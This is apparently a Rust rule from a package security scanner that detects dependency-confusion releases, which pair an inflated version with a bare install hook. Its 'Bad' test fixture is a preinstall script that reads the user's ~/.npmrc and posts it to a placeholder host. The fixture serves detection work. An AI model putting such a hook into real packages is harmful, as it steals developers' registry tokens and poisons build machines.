//! # A release with a version beyond reach holds nothing but an install hook
//!
//! The version's first number is 90 or more, the manifest has an install hook, and there is no dependency, no command and
//! hardly a file besides.
//!
//! ## Why it matters
//!
//! Such a release is made to win against a private package of the same name: the package manager prefers the highest
//! version. The hook then tells whose build machine it reached, or does worse.
//!
//! ## Known benign uses
//!
//! Packages that follow a browser's version have large numbers and a hook, but also commands and dependencies. Probes of
//! bug hunters look the same and are reported as well. It never decides alone.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "acme-internal-billing", "version": "99.10.9", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "browserdriver", "version": "148.0.1", "bin": "cli.js", "scripts": {"install": "node install.js"}}
//! == cli.js
//! console.log("driver");
//! == install.js
//! console.log("nothing to do");
//! ```
//!
//! ```package
//! == package.json
//! {"name": "acme-internal-billing", "version": "99.0.0", "main": "index.js"}
//! == index.js
//! module.exports = {};
//! ```
//!
//! ## References
//!
//! - Birsan: Dependency Confusion (February 2021)

use crate::prelude::*;

/// A release with a version beyond reach holds nothing but an install hook.
pub struct DependencyConfusionShape;

impl Rule for DependencyConfusionShape {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "dependency-confusion-shape",
            title: "A release with a version beyond reach holds nothing but an install hook",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1195.001",
            covers: &["dependency-confusion"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(manifest) = facts.manifest().filter(|_| facts.context().origin != Origin::Project) else {
            return;
        };
        let major =
            manifest.version.as_deref().and_then(|version| version.split('.').next()?.parse::<u64>().ok());
        let is_hooked =
            facts.commands().iter().any(|command| matches!(command.origin, CommandOrigin::Hook(_)));
        let needs = &manifest.dependencies;
        let is_bare = needs.production.is_empty()
            && needs.optional.is_empty()
            && manifest.bin.is_empty()
            && facts.build_files().is_empty();
        if is_hooked
            && is_bare
            && facts.scripts().len() <= SCRIPTS
            && major.is_some_and(|major| major >= MAJOR)
        {
            let mut steps: Vec<(Locus, &str)> =
                facts.unasked_files().into_iter().map(|file| (file, "runs by itself")).collect();
            steps.push((
                facts.in_manifest(&["version"]),
                "has a version that outranks any other, and little but a hook",
            ));
            found.path(Trigger::Install, &steps);
        }
    }
}

/// The catalogue's campaigns used 99 and more; honest versions below it grew there.
const MAJOR: u64 = 90;

/// The catalogue's campaigns had one script or two.
const SCRIPTS: usize = 4;
